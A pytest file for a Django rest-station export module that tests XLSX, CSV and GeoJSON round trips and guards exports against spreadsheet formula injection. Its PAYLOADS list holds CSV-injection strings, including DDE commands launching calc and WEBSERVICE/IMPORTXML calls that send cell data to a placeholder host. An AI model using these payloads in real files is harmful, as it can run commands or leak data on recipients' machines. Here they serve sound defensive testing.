"""Exported lists: they can be imported again unchanged, and no spreadsheet program calculates anything in them."""

import csv
import io
import json
from datetime import UTC, date, datetime, time
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from core.errors import InvalidValue
from stations.columns import COLUMNS, SheetRows, csv_chunks, restored, xlsx_chunks
from stations.exporting import export
from stations.geo import Crs, Point, distance_m
from stations.importing.headings import find_layout
from stations.importing.sheets import read_sheets
from stations.models import HoursPeriod, HoursSpan, Station, StationOrganisation
from tests.builders import make_hours, make_station, make_subdistrict
from tests.proving import counted
from tests.stations.importing.lists import counts, everything, take

PAYLOADS = [
    "=1+1", "=HYPERLINK(\"http://x\",\"y\")", "=cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")", "'=1+1", "''=1+1", "=\"a\"", "=A1;=B1", "=1,\"=2\"",
    "==1", "=-1", "@=1", "-@1", "+-1", "=DDE(\"cmd\",\"/C calc\",\"x\")", "\x00=1+1", "\x07=1", "=1\n=2",
]  # fmt: skip
# What a sheet begins to work out, in both widths.
LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
TEXT_COLUMNS = ["name", "status_reason", "address", "floor", "directions", "phone", "amenities_text", "hours_text"]


@pytest.fixture
def full_station(town: None) -> Station:  # noqa: ARG001
    """A station that fills every column."""
    station = make_station(
        name="完美(中国)“江城蜂巢”", aliases=["工会爱心驿站", "完美驿站"], tier=2, status_reason="", zone_id=None,
        address="和平大道1号", floor="1楼", directions="玻璃门，朝街", area_m2=Decimal("10.5"), seats=6, phone="027-88880000",
        opened_on=date(2021, 7, 1), amenities_text="擦鞋机", amenities=["hot-water", "microwave", "phone-charging"],
        division=make_subdistrict(), hours={"days": [1, 2, 3, 4, 5], "opens": time(9), "closes": time(17, 30)},
    )  # fmt: skip
    make_hours(station, days=[6, 7], opens=time(22), closes=time(6), entry_mode="scan")
    summer = HoursPeriod.objects.create(
        station=station,
        name="夏季纳凉",
        valid_from=date(2000, 7, 1),
        valid_through=date(2000, 8, 31),
        repeats_yearly=True,
    )
    HoursSpan.objects.create(period=summer, days=[1, 2, 3, 4, 5, 6, 7], opens=time(8), closes=time(22))
    for role, name in (("premises", "完美公司"), ("premises", "武昌区总工会"), ("management", "徐家棚街道")):
        StationOrganisation.objects.create(station=station, role=role, name=name)
    return station


def exported(form: str, **options: Any) -> bytes:
    return b"".join(export(Station.objects.all(), form, **options))


@pytest.mark.usefixtures("full_station")
@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_what_goes_out_comes_in_again_and_changes_nothing(form: str) -> None:
    make_station(latitude=None, longitude=None, hours=False, hours_text="看社区", status="draft")
    make_station(name="停用的", status="suspended", status_reason="装修", latitude=30.59, longitude=114.35)
    before = everything()
    report = take(exported(form))
    assert counts(report) == (0, 0, 3, 0)
    assert everything() == before
    assert {finding.code for finding in report.findings} == {"hours_unread"}


@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_an_empty_database_is_filled_again_from_an_export(full_station: Station, form: str) -> None:
    def facts() -> list[Any]:
        state = everything()
        tables = (
            "stations_stationamenity",
            "stations_stationorganisation",
            "stations_hoursperiod",
            "stations_hoursspan",
        )
        fields = ("code", "name", "aliases", "tier", "status", "division_id", "address", "floor", "directions", "area_m2",
                  "seats", "phone", "opened_on", "amenities_text", "hours_text")  # fmt: skip
        return [list(Station.objects.values_list(*fields)), *(state[table] for table in tables)]

    before, file = facts(), exported(form)
    Station.objects.all().delete()
    assert counts(take(file)) == (1, 0, 0, 0)
    assert facts() == before
    again = Station.objects.get()
    there = Point(again.latitude or 0, again.longitude or 0)
    assert distance_m(there, Point(full_station.latitude or 0, full_station.longitude or 0)) < 0.1


def test_a_day_is_a_day_in_a_workbook_and_a_moment_is_one_of_wuhan() -> None:
    moment = datetime(2026, 6, 10, 16, 5, tzinfo=UTC)
    rows: list[list[Any]] = [["启用日期", "时间"], [date(2024, 5, 1), moment], [None, None]]
    day, at = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_chunks([SheetRows("a", rows)])))).active[2]
    assert (day.value, day.number_format) == (datetime(2024, 5, 1), "yyyy-mm-dd")  # noqa: DTZ001 - as openpyxl reads it
    assert (at.value, at.number_format) == (datetime(2026, 6, 11, 0, 5), "yyyy-mm-dd hh:mm")  # noqa: DTZ001


@pytest.mark.usefixtures("full_station")
def test_the_day_a_station_opened_is_a_day_in_the_workbook() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(exported("xlsx"))).active
    place = [column.key for column in COLUMNS].index("opened_on")
    assert sheet[2][place].is_date


@pytest.mark.parametrize("crs", list(Crs))
def test_a_position_comes_back_from_every_datum(full_station: Station, crs: Crs) -> None:
    file = exported("csv", crs=crs)
    assert counts(take(file)) == (0, 0, 1, 0)
    Station.objects.update(latitude=None, longitude=None, entered_crs="")
    take(file)
    again = Station.objects.get()
    there = Point(again.latitude or 0, again.longitude or 0)
    assert distance_m(there, Point(full_station.latitude or 0, full_station.longitude or 0)) < 0.1
    assert again.entered_crs == crs


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_column_begins_a_formula(town: None, payload: str) -> None:  # noqa: ARG001
    stored = payload.replace("\x00", "")
    texts_stored: dict[str, Any] = dict.fromkeys(TEXT_COLUMNS, stored[:20])
    station = make_station(aliases=[stored], hours=False, **texts_stored)
    StationOrganisation.objects.create(station=station, role="premises", name=stored)
    table = list(csv.reader(io.StringIO(exported("csv").decode("utf-8-sig"))))
    workbook = openpyxl.load_workbook(io.BytesIO(exported("xlsx")))
    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}
    texts = [*table[1], *(cell.value for cell in cells if isinstance(cell.value, str))]
    for text in texts:
        assert not text.lstrip(" \u3000\u00a0").startswith(LEADS), text
    counted("T10", "the export of stations, every text column", payloads=1, cells=len(texts), formulas=0)


_TEXT = st.text(
    st.characters(exclude_categories=("Cs", "Cc", "Cn", "Co"), exclude_characters="\ufffe\uffff"), max_size=30
).map(str.strip)


@given(
    rows=st.lists(st.lists(_TEXT, min_size=3, max_size=3), min_size=1, max_size=5),
    form=st.sampled_from(["csv", "xlsx"]),
)
@hypothesis_settings(suppress_health_check=[HealthCheck.too_slow], deadline=None, max_examples=60)
def test_every_text_comes_back_exactly_from_a_sheet(rows: list[list[str]], form: str) -> None:
    table = [["名称", "地址", "x"], *(["a", *row[1:]] for row in rows)]
    file = b"".join(csv_chunks(table) if form == "csv" else xlsx_chunks([SheetRows("a", table)]))
    back = [[restored(cell) for cell in cells] for _number, cells in read_sheets(io.BytesIO(file))[0].rows()]
    assert [row + [""] * (3 - len(row)) for row in back] == table


def test_every_column_of_an_export_is_one_that_import_takes() -> None:
    layout = find_layout([(1, [column.heading for column in COLUMNS])])
    english = find_layout([(1, [column.heading_en for column in COLUMNS])])
    assert layout is not None
    assert english is not None
    assert list(layout.columns) == list(english.columns) == [column.key for column in COLUMNS]


def test_geojson_is_what_rfc_7946_asks_for(full_station: Station) -> None:
    make_station(latitude=None, longitude=None)
    collection = json.loads(exported("geojson"))
    assert collection["type"] == "FeatureCollection"
    assert "crs" not in collection
    with_position, without = sorted(collection["features"], key=lambda each: each["geometry"] is None)
    assert with_position["geometry"] == {"type": "Point", "coordinates": [114.3402, 30.5801]}
    assert with_position["id"] == full_station.code
    assert with_position["properties"]["amenities"] == ["hot-water", "microwave", "phone-charging"]
    assert without["geometry"] is None


def test_geojson_of_nothing_is_an_empty_collection(town: None) -> None:  # noqa: ARG001
    assert json.loads(exported("geojson"))["features"] == []


def test_geojson_in_another_datum_and_an_unknown_format_are_refused() -> None:
    with pytest.raises(InvalidValue):
        exported("geojson", crs=Crs.GCJ02)
    with pytest.raises(InvalidValue):
        exported("pdf")


def test_an_export_pages_through_many_stations(town: None, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: ARG001
    monkeypatch.setattr("stations.exporting._ROWS_AT_ONCE", 2)
    codes = [make_station(hours=False).code for _n in range(5)]
    table = list(csv.reader(io.StringIO(exported("csv").decode("utf-8-sig"))))
    assert [row[0] for row in table[1:]] == sorted(codes)


def test_the_command_writes_a_file_for_one_division(full_station: Station, tmp_path: Any) -> None:
    file = tmp_path / "out.csv"
    call_command("export_stations", str(file), format="csv", division="420106")
    assert full_station.code in file.read_text(encoding="utf-8-sig")
    call_command("export_stations", str(file), format="csv", division="420104")
    assert full_station.code not in file.read_text(encoding="utf-8-sig")
    with pytest.raises(CommandError):
        call_command("export_stations", str(file), format="csv", division="9")
    with pytest.raises(CommandError):
        call_command("export_stations", str(file), format="geojson", crs="gcj02")
